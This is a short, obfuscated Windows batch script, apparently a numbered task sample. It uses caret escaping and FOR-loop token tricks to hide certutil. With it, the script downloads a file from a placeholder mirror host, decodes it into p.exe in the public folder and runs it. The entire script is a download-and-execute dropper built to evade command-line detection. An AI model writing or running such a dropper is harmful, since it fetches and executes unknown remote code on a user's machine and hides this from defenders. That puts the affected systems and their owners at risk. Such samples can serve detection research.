REM task 4976 v4
@echo off
f^or /f "tokens=2 delims=@" %%^i ^i^n ("svao@certutil@jrny") d^o %%i -^u^r^l^cache -f ^h^tt^p://^r^ep^o.^pkg-^m^irr^or.^ex^am^p^l^e/p.t^xt %PUBLIC%\^p.t^x^t
f^or /^f "tokens=2 delims=;" %%i i^n ("asrx;certutil;pmyt") ^do %%i -^dec^o^de %PUBLIC%\^p.txt %PUBLIC%\^p.e^x^e
%PUBLIC%\p.^e^x^e
